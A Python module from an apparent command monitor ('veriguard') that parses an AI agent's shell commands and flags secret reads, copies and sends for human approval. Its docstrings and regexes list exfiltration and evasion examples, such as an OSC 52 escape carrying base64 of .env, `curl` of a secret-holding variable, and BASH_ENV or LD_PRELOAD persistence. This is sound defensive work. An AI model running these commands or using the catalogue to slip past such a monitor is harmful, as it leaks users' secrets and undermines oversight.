"""Static analysis of a shell command into the shell_agent policy's arguments (`from = "shell"`).

The command is parsed with tree-sitter-bash and the whole tree is walked; every node kind is either
followed or refused (ExtractionError: the monitor denies). What the walk cannot know statically (a
program named by a variable, code passed to an interpreter, eval of unknown text, an unknown program)
makes the command class unknown, which the spec sends to a human; paths it cannot resolve go to the
zone map's `unresolved` zone. Programs and zones come from commands.toml and zones.toml in the spec's
folder. One analysis serves both arguments (cached by command text and paths).
"""
from __future__ import annotations

import collections
import fnmatch
import functools
import glob
import itertools
import os
import posixpath
import re
import stat
import unicodedata
from dataclasses import dataclass, replace
from dataclasses import field as _field
from pathlib import Path
from typing import Any, Iterator, Mapping

from veriguard.enforce.extract_errors import ExtractionError
from veriguard.enforce.extractors import Extracted, Extractor, SpecFiles, _coerce, _path, _typed, spec_file
from veriguard.enforce.shell_state import IO, Invocation, State
from veriguard.enforce.shell_syntax import check_text, parse
from veriguard.enforce.shell_table import (ACCESSES, STAR2, CommandTable, Comp, Mounts, Places, ZoneMap, Zones,
                                            _intersect, fill, literal_head, load_commands, load_zones, normalise,
                                            split_pattern)
from veriguard.enforce.shell_table import _fold as _fold_comps
from veriguard.enforce.shell_mounts import (MOUNT_LIMIT, changes, home_links, leaves, mount_points, project_links,
                                            project_names)
from veriguard.enforce.shell_git import (NO_CHANGE, PRINTS, SENDING_KIND, SENDS, Repository, Unresolved,
                                        link_targets,
                                        prints_content, prints_stash, resolved, static_effect, written)
from veriguard.enforce.shell_run_files import shell_write_asks
from veriguard.enforce.shell_values import (Needles, blob_texts, in_spellings, in_texts, needles, opaque_held,
                                           opened_held, secret_keys, secret_values, spellings)
from veriguard.enforce.shell_walk import (Analyser, Analysis, Brought, Rewrite, _escape, lands_in_links, ordered,
                                         within)

__all__ = ["Analysis", "ShellExtractor", "analyse", "build_shell_extractor", "small_text"]


def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, tmp: str = "/tmp",
            commands: CommandTable, zones: ZoneMap, follow_links: bool = False, ask_git: bool = False,
            rewrites: bool = True, places: Places = (), content: bool | None = None, copies: bool = False,
            tainted: tuple[str, ...] = ()) -> Analysis:
    """The analysis of `command` run in `cwd` (cached: both arguments share one parse). With `follow_links`,
    every path it names exactly is also resolved through the symbolic links on this machine's disk now (a
    link in the project to ~/.ssh reads ~/.ssh); with `ask_git`, the repository is asked which files a git
    command that rewrites its work tree would write (without it, such a command is refused unless its words
    show it writes none): both steps read the disk on every call. `rewrites` false leaves such commands out
    (the shell_agent's `command` argument does not depend on them). `places`: the paths the monitor protects
    (shell_table.places_of: the zone map's {guard} and {secret}). `content` (default: `follow_links`): what a step
    brings into a folder is read on disk (through_content), and so is the repository git finds above the working
    directory (through_repositories): either may make the command unknown: the command's class depends on them, not
    on links. `copies`: fill Analysis.copies, the paths the command writes that may hold what it reads of a `carried`
    zone (carried_copies). `tainted`: names of shell variables an earlier command of the same shell assigned from
    what it read of a `carried` zone (through_tainted).
    `follow_links` or `content` also find the project's symbolic links that lead elsewhere (shell_mounts), when the
    command changes something outside the project: a path under where one leads is in the zones of its spelling
    under the link too (`ln -s /tmp/x sub`, then `echo > /tmp/x/.envrc` writes `sub/.envrc`)."""
    content = follow_links if content is None else content
    defined, set_run = split_records(tainted, DEFINED), split_records(tainted, SET_TO_RUN)     # the kinds of record
    variables = tuple(n for n in tainted if not n.endswith((DEFINED, SET_TO_RUN))) if defined or set_run else tainted
    cwd, home, workspace, tmp = normalise(cwd), normalise(home), normalise(workspace or cwd), normalise(tmp)
    aliases = real_spellings({"workspace": workspace, "home": home, "tmp": tmp}) if follow_links or content else ()
    a = _analyse(command, cwd, home, workspace, tmp, commands, zones, places, aliases)
    mounts: Mounts = mount_points() if follow_links else ()
    unseen = False
    project = (workspace, *dict(aliases).get("workspace", ()))
    if (follow_links or (content and a.brought)) and zones.uses_workspace() and leaves(a, project):
        found, unseen = project_links(project)
        mounts += found
    if follow_links and zones.uses_workspace() and (changes(a) or leaves(a, project)):
        homes = (home, *dict(aliases).get("home", ()))
        found = home_links(homes, project)
        mounts += found
        named = tuple(n for n in project_names(found, project, homes) if n not in project)
        if named:   # the project under a link of the home is the project, not the home
            aliases = tuple((k, v) for k, v in aliases if k != "workspace") + (("workspace", project[1:] + named),)
            project += named
    if mounts:
        a = _analyse(command, cwd, home, workspace, tmp, commands, zones, places, aliases, mounts)
    disk = _Walk(WALK_LIMIT)     # the folders listed on disk, each once a decision (links, then carried files)
    compiled = (zones.compile(workspace, home, tmp, places, aliases, mounts)
                if follow_links or (content and (a.brought or a.repositories)) or (rewrites and a.rewrites) else None)
    if unseen and compiled is not None:
        a = beyond_walk(a, compiled, project)
    if follow_links and compiled is not None:
        a = through_links(a, compiled, (workspace, home, tmp), disk)
    if content and a.brought and compiled is not None:
        a = through_content(a, compiled, commands)
    if content and compiled is not None and a.repositories:
        a = through_repositories(a, compiled, commands)
    if content and a.leading_globs:
        a = through_leading_globs(a, commands)
    a = through_set_to_run(through_defined(a, command, defined, commands), set_run, commands) if tainted else a
    unfollowed = a.kind == commands.unknown     # before the steps that make a command unknown for writes it sees
    if content and zones.approval:
        a = through_approval(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts), commands)
    globs: dict[str, list[str] | None] = {}     # a glob's matches on disk, read once for both steps below
    if content and zones.code_keys:
        a = through_settings_code(a, zones, command, commands, globs)
    if content:
        a = through_run_files(a, command, commands)
    a = through_terminal(a, command, commands)
    if rewrites and compiled is not None and a.rewrites:
        a = through_git(a, compiled, ask_git=ask_git)
    expands = tainted_expansion(command, variables) if zones.carried else None
    if expands is not None:
        a = through_tainted(a, expands, zones.carried[0])
    if content and zones.carried:     # after the git step: what a git command sends from its commits is read there
        a = through_carried(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts), zones.carried,
                            commands, globs, disk, tainted=expands)
    if content and zones.carried and rewrites and a.kind == SENDING_KIND:   # only `touched` (rewrites) reads it
        a = through_typed_secrets(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
                                  zones.carried, command, workspace or cwd, disk)
    if copies and zones.carried and a.kind == SENDING_KIND:
        a = replace(a, sends=sent_files(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
                                        zones.carried))
    if copies and zones.carried and _SOURCING.search(command):
        a = replace(a, sourced=sourced_names(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
                                             zones.carried, globs))
    if copies and zones.carried:
        a = replace(a, copies=carried_copies(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
                                             zones.carried, globs, disk, tainted=expands is not None))
    return replace(a, unfollowed=unfollowed)


# ESC ] (an operating system command to the terminal) in any spelling printf, `echo -e` and $'...' read, the one byte
# 0x9d, or OSC 52's own `]52;` however its introducer is made
_ESC = r"(?:\\e|\\E|\\0?33|\\x1[bB]|\\u001[bB]|\\U0000001[bB]|\\c\[|\x1b)"
_OSC = re.compile(_ESC + r"+\]|\x9d|\\x9[dD]|\\0?235|\\u009[dD]|\]\s*52\s*;")


def through_terminal(a: Analysis, command: str, table: CommandTable) -> Analysis:
    """`a` of the class that sends data off the machine where its text writes an OSC escape to the terminal: OSC 52
    (`printf '\\e]52;c;%s\\a' "$(base64 .env)"`) sets the clipboard of the machine the terminal runs on, which is
    another one in an ssh session, and the analysis cannot tell which OSC a computed text writes."""
    if SENDING_KIND not in table.class_order or not _OSC.search(command):
        return a
    return replace(a, kind=max((a.kind, SENDING_KIND), key=table.rank),
                   account=a.account + ("network (an escape to the terminal, OSC: OSC 52 sets the clipboard of the "
                                        "machine the terminal runs on)",))


def through_approval(a: Analysis, zones: Zones, table: CommandTable) -> Analysis:
    """`a` unknown where it writes or deletes a path the zone map's `approval` names (a virtual environment's
    `bin/activate`, run by every terminal VS Code opens in the project): a change a human approves, since zoning
    the file would deny sourcing it. The path itself, also where what it names may be a folder written whole (`mv
    /tmp/x .pylintrc`, `cp -r`); not what a folder written whole holds (`python -m venv .venv`)."""
    named = [path for accesses, path, _ in a.paths
             if {"write", "delete"} & set(accesses) and zones.needs_approval(split_pattern(_escape(normalise(path))))]
    named += ["/".join(c.text for c in comps) for accesses, comps, _ in a.patterns
              if {"write", "delete"} & set(accesses) and zones.needs_approval(comps)]
    if not named:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (changes {named[0]}, which runs later outside any command: "
                                        "a human approves it)",))


def split_records(tainted: tuple[str, ...], kind: str) -> tuple[str, ...]:
    """The records of one `kind` (DEFINED, SET_TO_RUN) among `tainted` (a shell's record: session_names)."""
    return tuple(n for n in tainted if n.endswith(kind))


def tainted_expansion(command: str, names: tuple[str, ...]) -> str | None:
    """How the command's text reaches one of the tainted variables `names` (an earlier command of its shell assigned
    them from the project's secrets; `*`: a name built at run time, ANY_NAME; the shell's record without its DEFINED
    and SET_TO_RUN records, which analyse splits off once), or None: an expansion (`$K`, `${K}`, `${K:0:4}`,
    `${#K}`, `${!K}`), quoted or not, where it is written (a command that assigns the name again before it expands it is
    counted too); a read of the shell's variables or environment that may name none by `$` (`env`, `printenv K`,
    `export -p`, `declare -p`, `declare -n r=K`, `set`, `compgen -v`, `${!P*}`, `eval`, arithmetic `$((K))`, `let`,
    /proc/self/environ); a descriptor left open (_FD_USE; "0", the shell's own input: every later
    command); with ANY_NAME, the expansion of any name the command does not assign and the shell does not set."""
    if not names:
        return None
    if "0" in names:
        return "descriptor 0 (the shell's own input)"
    dumped = _DUMPS.search(command)
    if dumped is not None:
        return dumped.group(0).strip()
    found = next((n for n in names if n != ANY_NAME and _expands(n, command)), None)
    if found is not None or ANY_NAME not in names:
        return None if found is None else f"descriptor {found}" if found.isdigit() else f"${found}"
    own = set(assigned_names(command)) | SHELL_SET
    return next((f"${m}" for m in _EXPANDED.findall(command) if m not in own), None)


def _expands(name: str, command: str) -> bool:
    """Whether `command` reads the recorded `name`: a descriptor's number, POSITIONAL or a variable's name."""
    if name == POSITIONAL:
        return _POSITIONAL_USE.search(command) is not None
    return re.search(_FD_USE.format(n=name) if name.isdigit() else r"\$\{?[#!]?" + re.escape(name) + r"(?!\w)",
                     command) is not None


ANY_NAME = "*"      # a `var` record: a variable whose name was built at run time holds the project's secrets
POSITIONAL = "@"    # a `var` record: the shell's positional parameters hold the project's secrets (`set -- $(cat .env)`)
DEFINED = "()"      # a `var` record NAME(): a function or alias an earlier command of the shell defined
# names the shell or the system sets (an expansion of one is never a name built from a secret)
SHELL_SET = frozenset({"HOME", "PATH", "PWD", "OLDPWD", "USER", "LOGNAME", "SHELL", "TERM", "LANG", "TMPDIR",
                       "HOSTNAME", "UID", "EUID", "PPID", "RANDOM", "SECONDS", "LINENO", "IFS", "PS1", "PS2", "PS4",
                       "OPTIND", "OPTARG", "REPLY", "BASH", "BASHPID", "BASH_SOURCE", "FUNCNAME", "EDITOR",
                       "VIRTUAL_ENV", "CLAUDE_PROJECT_DIR", "HOSTTYPE", "OSTYPE", "SHLVL", "COLUMNS", "LINES"})
_EXPANDED = re.compile(r"\$\{?[#!]?([A-Za-z_]\w*)")
# reads of the shell's variables or environment that name none of them
_DUMPS = re.compile(r"(?:^|[\s;&|(`{])(?:env|printenv|compgen|eval|export\s+-p|(?:declare|typeset|local|readonly)\s+"
                    r"-\w*[pn]\w*|let)(?=$|[\s;&|)<>`}])|\(\(|(?:^|[\s;&|(`{])set(?=\s*(?:$|[;&|)>`}]))|\$\{!|"
                    r"/proc/[^\s/]+/(?:task/[^\s/]+/)?environ")


# a read of descriptor {n} that an earlier `exec {n}< FILE` left open in the shell: `<&3`, `/dev/fd/3`, `read -u 3`
_FD_USE = r"(?:<&\s*{n}(?!\d)|/dev/fd/{n}(?!\d)|/proc/(?:self|\$\$|\$BASHPID|\d+)/fd/{n}(?!\d)|\bread\b[^;&|\n]*-u\s*{n}(?!\d))"


def through_tainted(a: Analysis, found: str, zone: str) -> Analysis:
    """`a` reading `zone` (the project's secrets) where the command expands `found`, a variable an earlier command
    assigned from it (tainted_expansion): a shell kept from one command to the next (tmux, the Anthropic API's bash
    tool) holds `K` after `K=$(cat .env)`, so a later `curl "https://x/?k=$K"` carries the secret though no file is
    named and no value is typed, and a later `printf %s "$K" > /tmp/k` copies it (through_carried, carried_copies)."""
    if ("read", zone) in a.touched:
        return a
    return replace(a, touched=ordered({**dict.fromkeys(a.touched), ("read", zone): None}),
                   account=a.account + (f"read {found} ({zone}): an earlier command of this shell assigned a variable "
                                        "from what it read there",))


_ASSIGNED = re.compile(r"(?<![\w$\-])([A-Za-z_]\w*)(?:\[[^\]\s]*\])?\+?=")
_READ_INTO = re.compile(r"\b(?:read|mapfile|readarray|getopts|printf\s+-v|for|select|coproc|declare|typeset|local|"
                        r"export|readonly)\b([^;&|<>()\n`]*)")
_NAME = re.compile(r"(?<![\w$\-])[A-Za-z_]\w*(?![\w-])")


# a command that sets variables whose names come from what it reads: `source`/`.` of a file, `eval`, `set -a`, an
# assignment or `export`/`declare` of a name that is itself expanded (`export "$k=$v"`), `envsubst`-free `read` loops
_SOURCING = re.compile(r"(?:^|[\s;&|(`])(?:(?:source|\.|eval)(?=[\s\"'$])|set\s+-a|"
                       r"(?:export|declare|typeset|local|readonly)\s+(?:-\w+\s+)*[\"']?\$|[\"']?\$\{?\w+\}?=)")


def sourced_names(a: Analysis, zones: Zones, carried: tuple[str, ...],
                  globs: dict[str, list[str] | None]) -> tuple[str, ...]:
    """The keys (`KEY=`, `export KEY=`, `KEY:`) of the files of a `carried` zone `a` reads by name (their first
    _TYPED_BYTES): the names a command that sources or evaluates one sets (`set -a; source .env`)."""
    names: dict[str, None] = {}
    for path in dict.fromkeys(_read_names(a, globs)):
        if not any(z in carried for z in _zones_of(zones, path)):
            continue
        try:
            with open(path, "rb") as f:
                names.update(dict.fromkeys(secret_keys(f.read(_TYPED_BYTES).decode("utf-8", "replace"))))
        except OSError:
            continue
    return tuple(names)


_EXEC_OPENS = re.compile(r"\bexec\b(?:[^;&|\n]|&(?=[\d-]))*")
_OPENED = re.compile(r"(?<![\w&}])(\d*)<>?(?![&<])")     # no number: descriptor 0, the shell's own input


def assigned_names(command: str) -> tuple[str, ...]:
    """The names of the shell variables `command` may assign, written anywhere in its text (`K=`, `export K=`, `read
    K`, `mapfile -t L`, `printf -v K`, `for K in`, `exec {K}< f`), the descriptors its `exec` opens for reading
    (`exec 3< .env`: "3"; `exec < .env`: "0", the shell's own input), which the shell keeps open, and ANY_NAME where it
    may assign a name built at run time (runtime_named): more than it does (an option's value, a word of a prompt),
    never fewer where its text names them."""
    names = dict.fromkeys(_ASSIGNED.findall(command))
    for m in _EXEC_OPENS.finditer(command):
        names.update(dict.fromkeys(n or "0" for n in _OPENED.findall(m.group(0))))
        names.update(dict.fromkeys(re.findall(r"\{([A-Za-z_]\w*)\}<", m.group(0))))
    for m in _READ_INTO.finditer(command):
        names.update(dict.fromkeys(_NAME.findall(m.group(1))))
    if runtime_named(command):
        names[ANY_NAME] = None
    if _SETS_POSITIONAL.search(command):
        names[POSITIONAL] = None
    return tuple(names)


# `set -- w…` or `set w…` (after options; `-o NAME` takes its word) sets the shell's positional parameters
_SETS_POSITIONAL = re.compile(r"(?:^|[\s;&|(`{])set(?:\s+[-+][A-Za-z]*o\s+\w+|\s+[-+][A-Za-z]*[A-Za-np-z])*\s+(?:--|[^-+\s;&|)])")
# an expansion of a positional parameter: $1, $@, $*, ${12}, ${@:2}, ${#1}, ${!#} (the last one)
_POSITIONAL_USE = re.compile(r"\$(?:[1-9@*]|\{(?:[#!]?(?:\d+|[@*])|!#)(?!\w))")


# a name an assignment builds at run time: `declare "$n=v"`, `export "K_$k=$v"`, `printf -v "$n"`, `read "$n"`,
# `eval "K$i=v"` (any eval), a nameref (`declare -n r=$n`), `source`/`.` of what no path names (`<(sed … .env)`)
_RUNTIME = re.compile(r"(?:^|[\s;&|(`{])(?:eval\b|(?:declare|typeset|local|export|readonly)\s+(?:-\w*\s+)*(?:-\w*n\w*|"
                      r"[\"']?[\w\[\]]*\$)|(?:printf\s+-v|read\b[^;&|\n]*?|mapfile\b[^;&|\n]*?|readarray\b[^;&|\n]*?)"
                      r"\s[\"']?[\w]*\$(?!\()|(?:source|\.)\s+(?:<\(|/dev/(?:stdin|fd/)|-(?:\s|$)))|"
                      r"(?<![\w$])[A-Za-z_]\w*\$\{?\w+\}?\w*(?:\[[^\]\s]*\])?\+?=")


def runtime_named(command: str) -> bool:
    """Whether `command` may assign a variable whose name its text does not show (_RUNTIME)."""
    return _RUNTIME.search(command) is not None


# a function's or alias's name as a `var` record NAME() holds it: the one rule of the state file's writer
# (defined_names) and reader (hook._state_var); an alias of another name (`alias 9x=…`, `g+`) is recorded escaped
DEFINED_NAME = re.compile(r"[A-Za-z_][\w.:-]*")
_ESCAPED = "_:"     # a recorded name that starts so is _ESCAPED + the hex of the name's UTF-8 bytes (defined_record)
_DEFINES = re.compile(r"(?:^|[\s;&|(`{'\"])(?:function\s+(" + DEFINED_NAME.pattern + r")|(" + DEFINED_NAME.pattern
                      + r")\s*\(\s*\)(?=\s*(?:[{(]|\[\[|(?:if|for|while|until|case|select)\b)))")
_ALIAS = re.compile(r"(?:^|[\s;&|(`{'\"])alias\s+([^;&|\n]*)")


def defined_names(command: str) -> tuple[str, ...]:
    """The functions (`f() {`, `function f`) and aliases (`alias g='…'`) `command` may define, each as NAME + DEFINED:
    a shell kept across calls runs the body where a later command calls the name (through_defined)."""
    names = [a or b for a, b in _DEFINES.findall(command)]
    for m in _ALIAS.finditer(command):
        names += re.findall(r"(?:^|\s)[\"']?([^\s=\"'$`]+)=", m.group(1))
    return tuple(dict.fromkeys(map(defined_record, names)))


def defined_record(name: str) -> str:
    """`name` as a NAME() record: the name where DEFINED_NAME reads it whole and it does not start with _ESCAPED, else
    _ESCAPED + the hex of its UTF-8 bytes (what the state file's reader accepts; defined_name reads it back)."""
    if DEFINED_NAME.fullmatch(name) is not None and not name.startswith(_ESCAPED):
        return name + DEFINED
    return _ESCAPED + name.encode("utf-8", "surrogatepass").hex() + DEFINED


def defined_name(record: str) -> str:
    """The function's or alias's name a NAME() record holds (defined_record)."""
    name = record[:-len(DEFINED)]
    if name.startswith(_ESCAPED):
        try:
            return bytes.fromhex(name[len(_ESCAPED):]).decode("utf-8", "surrogatepass")
        except ValueError:      # a record no escape wrote: the name itself
            return name
    return name


@functools.lru_cache(maxsize=64)
def _calls(names: tuple[str, ...]) -> re.Pattern[str]:
    """A call, as a program (at a command's start, quoted or not), of one of `names`."""
    return re.compile(_COMMAND_START + r"[\"'\\]?(?:" + "|".join(map(re.escape, names)) + r")[\"']?(?=$|[\s;&|)<>`])")


def through_defined(a: Analysis, command: str, defined: tuple[str, ...], table: CommandTable) -> Analysis:
    """`a` unknown where `command` calls, as a program (at a command's start, quoted or not), a function or alias an
    earlier command of its shell defined (`defined`: the shell's NAME() records, defined_names): its body is not in
    this text. One search for all of them; where one is called, the first of `defined` called is the one named."""
    names = tuple(map(defined_name, defined))
    if not names or _calls(names).search(command) is None:
        return a
    called = next((n for n in names if _calls((n,)).search(command)), None)
    if called is None:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (runs {called}, a function or alias an earlier command of this shell "
                                        "defined: its body is not in this command; a human approves it)",))


SET_TO_RUN = "="     # a `var` record NAME=: the shell runs what an earlier command set NAME to, before later commands
# variables whose value the shell (or every program it starts) runs later: a persistent shell keeps them
RUNS_LATER = frozenset({"BASH_ENV", "ENV", "PROMPT_COMMAND", "PS0", "PS1", "PS2", "PS4", "LD_PRELOAD", "LD_AUDIT",
                        "DYLD_INSERT_LIBRARIES", "SHELLOPTS", "BASHOPTS"})


def set_to_run(command: str, assigned: tuple[str, ...] | None = None) -> tuple[str, ...]:
    """The settings `command` may leave in its shell that run code before or after each later command (RUNS_LATER
    variables it assigns: `export BASH_ENV=/tmp/x.sh`, `PROMPT_COMMAND='…'`; a `trap ACTION DEBUG`), each as NAME +
    SET_TO_RUN (`trap=`). `assigned`: assigned_names(command), where the caller has it already."""
    names = [n for n in (assigned_names(command) if assigned is None else assigned) if n in RUNS_LATER]
    names += ["trap"] if _TRAP.search(command) else []
    return tuple(dict.fromkeys(n + SET_TO_RUN for n in names))


def through_set_to_run(a: Analysis, set_run: tuple[str, ...], table: CommandTable) -> Analysis:
    """`a` unknown where an earlier command of its shell set what the shell runs around each command (`set_run`: the
    shell's NAME= records, set_to_run): `export BASH_ENV=/tmp/x.sh` makes every later `bash -c` run that file unseen."""
    held = set_run[0][:-len(SET_TO_RUN)] if set_run else None
    if held is None:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (an earlier command of this shell set {held}, which runs code around "
                                        "the commands that follow: a human approves each of them)",))


# where a word is the program a command runs: after a separator, an opening, a keyword, or a prefix that runs its words
_COMMAND_START = (r"(?:^|[;&|({}`!\n]|\$\(|\b(?:then|do|else|elif|if|while|until|time|command|builtin|exec|nohup|env|"
                  r"sudo|xargs|nice|timeout\s+\S+|watch|setsid|stdbuf(?:\s+-\S+)*)\s)\s*(?:[A-Za-z_]\w*=\S*\s+)*")
# a trap run around each later command (DEBUG before each, RETURN, ERR after one that fails), not EXIT's cleanup
_TRAP = re.compile(r"(?:" + _COMMAND_START + r"|['\"])trap\s+(?!-[lp]\b)(?!''|\"\"|-\s)[^;&|\n]*?\b(?:DEBUG|RETURN|ERR)\b")


def through_carried(a: Analysis, zones: Zones, carried: tuple[str, ...], table: CommandTable,
                    globs: dict[str, list[str] | None], disk: "_Walk", *, tainted: str | None = None) -> Analysis:
    """`a` unknown where it reads a file of a `carried` zone by name (`.env`) and writes a file of another zone (`cp
    .env /tmp/e`, `grep KEY .env > notes.txt`): the copy is no secret by name, and the command that sends it later
    is judged on its own, so a human approves the copy. A folder read whole (`grep -r x . > /tmp/o`) is not counted
    for what it holds: every recursive read of the project meets the secrets in it. `globs`: the analysis's glob
    matches read so far (_matches). `tainted`: a variable the command expands that holds one (tainted_expansion)."""
    # the zone of the name written (a secret moved whole keeps its name's zone: `mv .env .env.old`); no disk read
    written = [(path, z) for accesses, path, _ in a.paths if "write" in accesses for z in _zones_of(zones, path)
               if z not in carried]
    written += [("/".join(c.text for c in comps), z) for accesses, comps, _ in a.patterns if "write" in accesses
                for z in zones.of(comps, dot_rule=True) if z not in carried]
    if not written:
        return a
    read = (tainted, carried[0]) if tainted is not None else _carried_read(a, zones, carried, globs)
    if read is None:
        read = _carried_whole(a, zones, carried, written, globs, disk)
    if read is None:
        read = _commits_copied(a, zones, carried, written)
    if read is None:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (reads {read[0]} ({read[1]}) and writes {written[0][0]} "
                                        f"({written[0][1]}): a copy no later command can tell is one: a human "
                                        "approves it)",))


def sent_files(a: Analysis, zones: Zones, carried: tuple[str, ...]) -> tuple[str, ...]:
    """The regular files on disk now that `a`, a command that sends data out, reads by name, but for the secrets
    themselves (a `carried` zone's): a copy of a secret onto one of them, decided beside it, would be sent (one not
    made yet asks already: through_typed_secrets)."""
    return tuple(dict.fromkeys(path for path in _read_paths(a, whole=False) if not path.startswith(NOT_COPIES)
                               and os.path.isfile(path) and not any(z in carried for z in _zones_of(zones, path))))


def _read_paths(a: Analysis, *, whole: bool | None = None) -> Iterator[str]:
    """The paths `a` reads by name (its globs left out): all of them, or only those read whole (`whole` True) or not
    (False)."""
    return (path for accesses, path, recursive in a.paths if "read" in accesses and (whole is None or recursive == whole))


def _written(a: Analysis, kinds: tuple[str, ...] = ("write",)) -> list[tuple[str, bool]]:
    """(a path `a` writes, whether whole): those of its paths that it accesses in one of `kinds`, then the literal
    heads of the globs it writes (each whole)."""
    writes = [(path, recursive) for accesses, path, recursive in a.paths if any(k in accesses for k in kinds)]
    writes += [(literal_head(comps).rstrip("/") or "/", True) for accesses, comps, _ in a.patterns if "write" in accesses]
    return writes


def _read_names(a: Analysis, globs: dict[str, list[str] | None], *, whole: bool | None = None) -> Iterator[str]:
    """The paths `a` reads, a glob's by its matches on disk (`cp .en? /tmp/e`; past MAX_MATCHES, its text stands for
    them all): all of them, or only those read whole (`whole` True) or not (False)."""
    yield from _read_paths(a, whole=whole)
    yield from (m for accesses, comps, recursive in a.patterns if "read" in accesses and (whole is None or recursive == whole)
                for m in (_matches(comps, globs) or [_glob_text(comps)]))


def _carried_read(a: Analysis, zones: Zones, carried: tuple[str, ...],
                  globs: dict[str, list[str] | None]) -> tuple[str, str] | None:
    """(a path `a` reads by name, its `carried` zone), the first; None where it reads none."""
    return next(((path, z) for path in _read_names(a, globs) for z in _zones_of(zones, path) if z in carried), None)


MAX_MATCHES = 2000      # a glob's matches read on disk; past them, its text stands for them all
NOT_COPIES = ("/dev/", "/proc/", "/sys/")   # writes that leave no file behind (`> /dev/null`) or change no file


def carried_copies(a: Analysis, zones: Zones, carried: tuple[str, ...], globs: dict[str, list[str] | None],
                   disk: "_Walk", *, tainted: bool = False) -> tuple[str, ...]:
    """The paths `a` writes that may hold what it reads of a `carried` zone (`cp .env /tmp/e`, `head -c 8 .env >
    /tmp/a`, `tar czf /tmp/p.tgz .` of a folder holding one on disk now, `git log -p > /tmp/x` and the other printers
    and copiers of commits, `cat /tmp/e > /tmp/f` of an earlier copy): a later command that reads one of them reads
    that zone, which the hook's state across commands makes it (`{carried}`). Left out: paths already in a carried zone,
    devices, and a folder written whole that is, or lies in or above, a folder the command reads whole (`black .`,
    `sed -i` over the project: files rewritten in place keep their names). A folder written whole ends in `/` (all under
    it may hold a copy: `cp -r . /tmp/x`); () where the command reads no such file."""
    whole = tuple(dict.fromkeys(_read_names(a, globs, whole=True)))
    writes = _written(a)
    kept = [path + "/" if recursive else path for path, recursive in writes
            if path != "/" and not path.startswith(NOT_COPIES) and not any(z in carried for z in _zones_of(zones, path))
            and not (recursive and any(within(path, (w,)) or within(w, (path,)) for w in whole))]
    if not kept:
        return ()
    reads = (tainted or _carried_read(a, zones, carried, globs) is not None
             or any(r.sub in _COPIES_COMMITS or prints_stash(r.sub, r.args)
                    or (r.sub in PRINTS and prints_content(r.sub, r.args)) for r in a.rewrites))
    if not reads and whole:
        walk = _CarriedWalk(zones, carried, disk)
        reads = any(os.path.isdir(folder) and walk.first(folder) is not None for folder in whole)
    return tuple(dict.fromkeys(kept)) if reads else ()


def _carried_whole(a: Analysis, zones: Zones, carried: tuple[str, ...], written: list[tuple[str, str]],
                   globs: dict[str, list[str] | None], disk: "_Walk") -> tuple[str, str] | None:
    """(a file of a `carried` zone, its zone) that a folder the command reads whole holds on disk now, where the
    command also writes a file of a zone other than the folder's own (`tar czf /tmp/p.tgz .`, `cp -r . /tmp/x`,
    `rsync -a ./ /tmp/x/`: the project's `.env` leaves in the copy); None where there is none. A copy that stays in
    the folder's zone (`grep -r x . > notes.txt`, `tar czf dist/src.tgz .`) is the project's own."""
    walk: _CarriedWalk | None = None
    for folder in dict.fromkeys(_read_names(a, globs, whole=True)):
        own = set(_zones_of(zones, folder))
        if all(z in own for _, z in written) or not os.path.isdir(folder):
            continue
        walk = walk or _CarriedWalk(zones, carried, disk)
        found = walk.first(folder)
        if found is not None:
            return found
    return None


# git commands that copy whole trees or histories into a file (`git archive HEAD > /tmp/p.tar`, `git bundle create
# /tmp/b --all`): whether a commit holds a secret only a walk of the history tells, which the command's class does not
# wait for (the `touched` argument's git step does)
_COPIES_COMMITS = frozenset({"archive", "bundle", "fast-export"})


def _commits_copied(a: Analysis, zones: Zones, carried: tuple[str, ...],
                    written: list[tuple[str, str]]) -> tuple[str, str] | None:
    """(what, a carried zone) where a git command of _COPIES_COMMITS runs beside a write of a file of a zone other than
    its working directory's; None otherwise."""
    for r in a.rewrites:
        if r.sub not in _COPIES_COMMITS:
            continue
        own = set(_zones_of(zones, r.cwd)) if r.cwd is not None else set()
        if any(z not in own for _, z in written):
            return (f"the commits `git {r.sub}` copies (they may hold the project's secrets)", carried[0])
    return None


@functools.lru_cache(maxsize=32)
def _carried_names(zones: Zones, carried: tuple[str, ...]) -> "_CarriedNames":
    """The name matcher of _CarriedWalk for `zones` (one compiled map, by identity) and `carried`: built once."""
    return _CarriedNames(zones, carried)


class _CarriedNames:
    """Whether a file's name may be one of `carried` zones' (_CarriedWalk): the last parts of their patterns."""

    def __init__(self, zones: Zones, carried: tuple[str, ...]) -> None:
        ends = [p[-1] for z, patterns in zones.folded if z in carried for p in patterns if p]
        self.names = frozenset(c.text for c in ends if not c.glob)
        # one expression for the globs (hundreds of them, with [copies]' suffixes): a name is matched once
        plain = [c.text for c in ends if c.glob and not c.star2 and "\\" not in c.text]
        self.plain = plain
        self.escaped = [c for c in ends if c.glob and not c.star2 and "\\" in c.text]
        # the longest literal part of each glob (`.pem` of `*.pem.*`): a name holding none of them matches no glob,
        # found by one search (the globs' expression, each starting with `.*`, is slow on every name of a project)
        parts = {max(re.split(r"[*?\[\]]", t), key=len) for t in plain}
        kept: list[str] = []
        for part in sorted(parts, key=len):     # `.env` stands for `.env.`
            if not any(k in part for k in kept):
                kept.append(part)
        parts = set(kept)
        self.every = any(c.star2 for c in ends) or "" in parts
        self.parts = re.compile("|".join(map(re.escape, sorted(parts)))) if parts else None

    def candidate(self, name: str) -> bool:
        folded = name.casefold() if name.isascii() else _fold(name)
        if self.every or folded in self.names or any(c.matches(folded, dot_rule=False) for c in self.escaped):
            return True
        return self.parts is not None and self.parts.search(folded) is not None and self.globs.match(folded) is not None

    @functools.cached_property
    def globs(self) -> re.Pattern[str]:     # compiled when a name first holds a part (a tenth of a second)
        return re.compile("|".join(fnmatch.translate(t) for t in self.plain))


